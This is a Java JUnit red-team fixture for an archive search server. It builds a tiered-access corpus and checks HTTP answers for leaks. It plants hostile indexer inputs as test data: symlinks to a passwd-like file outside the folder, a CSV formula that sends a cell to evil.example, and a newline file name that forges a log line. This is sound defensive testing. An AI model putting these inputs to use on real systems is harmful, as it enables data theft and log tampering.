package kz.muragat.server.redteam;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import kz.muragat.app.logging.AuditLogFile;
import kz.muragat.core.metadata.AccessLevels;
import kz.muragat.indexer.pipeline.IndexReport;
import kz.muragat.indexer.pipeline.Indexer;
import kz.muragat.indexer.pipeline.IndexerOptions;
import kz.muragat.indexer.pipeline.Progress;
import kz.muragat.scangen.Degradation;
import kz.muragat.scangen.RenderedDocument;
import kz.muragat.scangen.RenderedPage;
import kz.muragat.scangen.ScanGenerator;
import kz.muragat.scangen.ScanOptions;
import kz.muragat.scangen.ScanWriter;
import kz.muragat.server.MuragatServer;
import kz.muragat.server.ServerOptions;
import kz.muragat.server.auth.AccessTokens;

/**
 * The red team's corpus, tokens and server, built once per test JVM and shared by the attack
 * classes of this package: public, restricted and closed documents, a public document whose pages
 * have their own levels, and hostile inputs for the indexer (links leading out, metadata that does
 * not apply, a formula in a title, a newline in a file name). Every word below occurs in one
 * document (or page) only, so any answer that holds it shows where it came from.
 *
 * <p>Every request goes through {@link #get}: it fails the test on a 5xx, and on any word the
 * caller may not see in the answer (a leak), whatever the attack was after.
 */
final class RedTeam {
  // ---------------------------------------------------------------- callers

  /** A caller: the token sent (null: anonymous) and the levels it holds. */
  record Caller(String name, String token, Set<String> levels, boolean admin) {
    boolean maySee(String level) {
      return admin || levels.contains(level);
    }
  }

  static final Caller ANONYMOUS = new Caller("anonymous", null, Set.of("public"), false);
  static final Caller RESTRICTED = new Caller("researcher", "rt-restricted-7f3a", Set.of("public", "restricted"), false);
  static final Caller CLOSED = new Caller("investigator", "rt-closed-9c1e", Set.of("public", "restricted", "closed"), false);
  static final Caller ADMIN = new Caller("archivist", "rt-admin-42d0", Set.of("public", "restricted", "closed"), true);
  static final List<Caller> CALLERS = List.of(ANONYMOUS, RESTRICTED, CLOSED, ADMIN);

  // ---------------------------------------------------------------- the corpus: word → level

  static final String PUBLIC_WORD = "Карагандинского";
  static final String RESTRICTED_WORD = "Семипалатинского";
  static final String CLOSED_WORD = "Криптограммой";

  /**
   * For the did-you-mean oracle: a word in a public document, one two letters away (beyond the
   * loose match of short words, within did-you-mean's reach) found only in the closed one, and one
   * as close found nowhere.
   */
  static final String DYM_PUBLIC = "zaraband";

  static final String DYM_CLOSED = "zarabamt";
  static final String DYM_NOWHERE = "zarabalk";

  /** The public PDF whose pages have levels of their own: page → {level, word}. */
  static final String MIXED = "mixed.pdf";

  static final Map<Integer, String[]> MIXED_PAGES =
      Map.of(
          1, new String[] {"closed", "Тургайского"},
          2, new String[] {"public", "Павлодарского"},
          3, new String[] {"restricted", "Кокчетавского"},
          4, new String[] {"closed", "Мангышлакского"});

  /** A document whose file name is NFD on disk and NFC in the manifest row that closes it. */
  static final String NFD_NAME = Normalizer.normalize("дело-ёлка.txt", Normalizer.Form.NFD);

  static final String NFD_WORD = "Хорезмского";

  /** Words of files the indexer must refuse: nobody, not even an administrator, may find them. */
  static final Map<String, String> REFUSED =
      new LinkedHashMap<>(
          Map.of(
              "passwd.txt", "Ашхабадского", // a symbolic link to a file outside the folder
              "linked/deep.txt", "Бухарского", // inside a linked folder outside
              "sub/inner.txt", "Ферганского", // its row sits in the parent folder's manifest
              "blank.txt", "Самаркандского", // "access": "   "
              "twice.txt", "Бакинского", // {"access": "closed", "ACCESS": "public"}
              "typo.txt", "Тифлисского", // "access": "pubilc"
              "wide.txt", "Эриванского")); // 3,000 metadata keys

  /** The first line of /etc/passwd-like content behind the link. */
  static final String PASSWD = "root:x:0:0:root:/root:/bin/bash";

  /** A public document whose metadata holds spreadsheet formulas. */
  static final String FORMULA = "formula.txt";

  /** A file named with a newline and a forged log line after it. */
  static final String NEWLINE_NAME = "evil\n12:00:00 ERROR Indexer - forged line.txt";

  static final String CORS_ORIGIN = "https://memorial.example";

  // ---------------------------------------------------------------- the shared state

  private static RedTeam instance;

  final Path root;
  final Path docs;
  final Path outside;
  final Path data;
  final Path tokensFile;
  final Path auditFile;
  final IndexReport report;
  final MuragatServer server;

  static final AtomicInteger PROBES = new AtomicInteger();
  static final AtomicInteger ATTACKS = new AtomicInteger();
  static final AtomicInteger LEAKS = new AtomicInteger();
  static final AtomicInteger SERVER_ERRORS = new AtomicInteger();
  static final HttpClient HTTP = HttpClient.newHttpClient();
  static final ObjectMapper JSON = new ObjectMapper();

  static synchronized RedTeam get() throws Exception {
    if (instance == null) instance = new RedTeam();
    return instance;
  }

  private RedTeam() throws Exception {
    root = Files.createTempDirectory("muragat-redteam");
    Runtime.getRuntime().addShutdownHook(new Thread(() -> {
      System.out.println("RedTeam: " + summary());
      deleteTree(root);
    }));
    docs = Files.createDirectories(root.resolve("docs"));
    outside = Files.createDirectories(root.resolve("outside"));
    data = root.resolve("data");
    writeCorpus();
    try (Indexer indexer = new Indexer(IndexerOptions.defaults(data).withWorkers(2))) {
      report = indexer.index(docs, Progress.NONE);
    }
    tokensFile = root.resolve("tokens.properties");
    writeTokens(tokensFile, List.of(RESTRICTED, CLOSED, ADMIN));
    auditFile = root.resolve("logs/audit.jsonl");
    AuditLogFile.attach(auditFile);
    server = new MuragatServer(new ServerOptions(data, "127.0.0.1", 0, List.of(CORS_ORIGIN), null, tokensFile, 0, 0, 0, null)).start();
    Runtime.getRuntime().addShutdownHook(new Thread(() -> {
      try {
        server.close();
      } catch (Exception ignored) {
        // the JVM is going
      }
    }));
  }

  static void writeTokens(Path file, List<Caller> callers) throws IOException {
    StringBuilder t = new StringBuilder("# hashes only\n");
    for (Caller c : callers) {
      List<String> roles = new ArrayList<>(c.levels());
      roles.remove("public");
      if (c.admin()) roles = List.of("admin");
      t.append("sha256:").append(AccessTokens.sha256(c.token())).append(" = ").append(String.join(", ", roles)).append(", name=").append(c.name()).append('\n');
    }
    Files.writeString(file, t.toString());
  }

  private void writeCorpus() throws Exception {
    StringBuilder manifest = new StringBuilder("file,title,date,archive,fond,doc_type,access\n");
    text("open.txt", "Архивная справка. Уроженец " + PUBLIC_WORD + " уезда, учитель. Аул " + DYM_PUBLIC + ".");
    manifest.append("open.txt,Справка,1937,ЦГА РК,1,letter,public\n");
    text("part.txt", "Протокол допроса. Уроженец " + RESTRICTED_WORD + " уезда, учитель.");
    manifest.append("part.txt,Протокол,1937,ЦГА РК,1,interrogation,restricted\n");
    text("secret.txt", "Донесение агента. Шифровано " + CLOSED_WORD + ", учитель. Аул " + DYM_CLOSED + ".");
    manifest.append("secret.txt,Донесение,1938,ЦГА РК,1,agent_report,closed\n");
    writeMixed(docs);
    manifest.append(MIXED).append(",Смешанное дело,1938,ЦГА РК,2,mixed_case,public\n");

    // item 2: links leading out of the folder
    Files.writeString(outside.resolve("passwd"), PASSWD + "\nУроженец " + REFUSED.get("passwd.txt") + " уезда\n");
    Files.createSymbolicLink(docs.resolve("passwd.txt"), outside.resolve("passwd"));
    Files.createDirectories(outside.resolve("dir"));
    Files.writeString(outside.resolve("dir/deep.txt"), "Уроженец " + REFUSED.get("linked/deep.txt") + " уезда");
    Files.createSymbolicLink(docs.resolve("linked"), outside.resolve("dir"));

    // item 3: metadata that does not apply
    text(NFD_NAME, "Опись. Уроженец " + NFD_WORD + " уезда.");
    manifest.append(Normalizer.normalize(NFD_NAME, Normalizer.Form.NFC)).append(",Опись,1939,ЦГА РК,3,inventory,closed\n");
    Files.createDirectories(docs.resolve("sub"));
    text("sub/inner.txt", "Уроженец " + REFUSED.get("sub/inner.txt") + " уезда.");
    manifest.append("sub/inner.txt,Вложенный,1939,ЦГА РК,3,nested,closed\n");
    text("blank.txt", "Уроженец " + REFUSED.get("blank.txt") + " уезда.");
    Files.writeString(docs.resolve("blank.txt.meta.json"), "{\"access\": \"   \"}");
    text("twice.txt", "Уроженец " + REFUSED.get("twice.txt") + " уезда.");
    Files.writeString(docs.resolve("twice.txt.meta.json"), "{\"access\": \"closed\", \"ACCESS\": \"public\"}");
    text("typo.txt", "Уроженец " + REFUSED.get("typo.txt") + " уезда.");
    Files.writeString(docs.resolve("typo.txt.meta.json"), "{\"access\": \"pubilc\"}");
    text("wide.txt", "Уроженец " + REFUSED.get("wide.txt") + " уезда.");
    StringBuilder wide = new StringBuilder("{\"access\": \"public\"");
    for (int i = 0; i < 3000; i++) wide.append(", \"dim").append(i).append("\": \"v").append(i).append('"');
    Files.writeString(docs.resolve("wide.txt.meta.json"), wide.append('}').toString());
    manifest.append("gone.txt,Нет такого файла,1939,ЦГА РК,3,missing,closed\n");

    // item 11: spreadsheet formulas in metadata; a newline in a file name
    text(FORMULA, "Заявление гражданки о пересмотре дела, учитель.");
    manifest.append(FORMULA).append(",\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",1956,@SUM(1+1),-2+3,+cmd,public\n");
    text(NEWLINE_NAME, "");
    Files.writeString(docs.resolve("manifest.csv"), manifest.toString(), StandardCharsets.UTF_8);
  }

  /** The public PDF with pages of their own levels (a text layer: no OCR), and its sidecar. */
  static void writeMixed(Path dir) throws IOException {
    ScanGenerator gen = new ScanGenerator(new ScanOptions(5, 100, Degradation.CLEAN, null, null));
    List<RenderedPage> pages = new ArrayList<>();
    for (int n = 1; n <= MIXED_PAGES.size(); n++) {
      pages.add(gen.render("p" + n, "Лист " + n + ". Уроженец " + MIXED_PAGES.get(n)[1] + " уезда, запись о допросе.").pages().get(0));
    }
    ScanWriter.writeTextPdf(new RenderedDocument("Дело", pages), dir.resolve(MIXED));
    Files.writeString(dir.resolve(MIXED + ".meta.json"), "{\"page_access\": {\"1\": \"closed\", \"3\": \"restricted\", \"4\": \"closed\"}}");
  }

  private void text(String name, String content) throws IOException {
    Path p = docs.resolve(name);
    Files.createDirectories(p.getParent());
    Files.writeString(p, content, StandardCharsets.UTF_8);
  }

  // ---------------------------------------------------------------- probing

  /** An answer: status, headers, body. */
  record Answer(int status, HttpResponse<String> raw) {
    String body() {
      return raw.body();
    }

    JsonNode json() throws IOException {
      return JSON.readTree(raw.body());
    }

    String header(String name) {
      return raw.headers().firstValue(name).orElse("");
    }
  }

  /** Words of the corpus the caller may not see. */
  static List<String> forbidden(Caller c) {
    List<String> out = new ArrayList<>(REFUSED.values());
    out.add("root:x:0");
    if (!c.maySee("restricted")) out.add(RESTRICTED_WORD);
    if (!c.maySee("closed")) {
      out.add(CLOSED_WORD);
      out.add(NFD_WORD);
      out.add(DYM_CLOSED);
    }
    for (String[] p : MIXED_PAGES.values()) if (!c.maySee(p[0])) out.add(p[1]);
    return out;
  }

  /** GET with the caller's token; fails on a 5xx or on a word the caller may not see. */
  Answer get(Caller c, String path) throws Exception {
    return send(server, c, "GET", path);
  }

  static Answer send(MuragatServer s, Caller c, String method, String path) throws Exception {
    HttpRequest.Builder b =
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + s.port() + path)).method(method, HttpRequest.BodyPublishers.noBody());
    if (c.token() != null) b.header("Authorization", "Bearer " + c.token());
    HttpResponse<String> r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
    PROBES.incrementAndGet();
    String what = method + " " + cut(path, 200) + " as " + c.name();
    if (r.statusCode() >= 500) SERVER_ERRORS.incrementAndGet();
    assertTrue(r.statusCode() < 500, what + " -> " + r.statusCode() + " " + r.body());
    assertFalse(r.body().contains("\tat ") || r.body().contains("Exception"), "no stack trace: " + r.body());
    String lower = r.body().toLowerCase(Locale.ROOT);
    for (String w : forbidden(c)) {
      String stem = w.toLowerCase(Locale.ROOT).substring(0, Math.min(8, w.length()));
      if (lower.contains(stem)) LEAKS.incrementAndGet();
      assertFalse(lower.contains(stem), "LEAK: '" + w + "' shown by " + what + ":\n" + cut(r.body(), 3000));
    }
    return new Answer(r.statusCode(), r);
  }

  /** A raw request over a socket (for headers HttpClient will not send, e.g. a forged Host). */
  static String raw(MuragatServer s, String request) throws IOException {
    try (Socket sock = new Socket("127.0.0.1", s.port())) {
      sock.setSoTimeout(30_000);
      OutputStream out = sock.getOutputStream();
      out.write(request.getBytes(StandardCharsets.UTF_8));
      out.flush();
      InputStream in = sock.getInputStream();
      String answer = new String(in.readAllBytes(), StandardCharsets.UTF_8);
      PROBES.incrementAndGet();
      return answer;
    }
  }

  static String cut(String s, int max) {
    return s.length() > max ? s.substring(0, max) + "…" : s;
  }

  static String q(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }

  /** Counts one attack replayed (for the suite's summary). */
  static void attack() {
    ATTACKS.incrementAndGet();
  }

  static String summary() {
    return PROBES.get() + " probes, " + ATTACKS.get() + " attacks, " + HOSTILE_INPUTS + " hostile inputs to the indexer, " + LEAKS.get() + " leaks, "
        + SERVER_ERRORS.get() + " 5xx";
  }

  /** Files and sidecars of the corpus built to mislead the indexer (links, metadata, names). */
  static final int HOSTILE_INPUTS = 11;

  static void deleteTree(Path p) {
    if (!Files.exists(p, java.nio.file.LinkOption.NOFOLLOW_LINKS)) return;
    try (Stream<Path> all = Files.walk(p)) {
      all.sorted(Comparator.reverseOrder()).forEach(x -> {
        try {
          Files.deleteIfExists(x);
        } catch (IOException ignored) {
          // best effort
        }
      });
    } catch (IOException ignored) {
      // best effort
    }
  }

  /** Options for indexing a corpus whose access levels are many (the 300-level attack). */
  static IndexerOptions optionsWithLevels(Path data, List<String> levels) {
    List<String> all = new ArrayList<>(levels);
    all.addAll(List.of("restricted", "closed"));
    return IndexerOptions.defaults(data).withWorkers(2).withAccessLevels(new AccessLevels(all));
  }
}
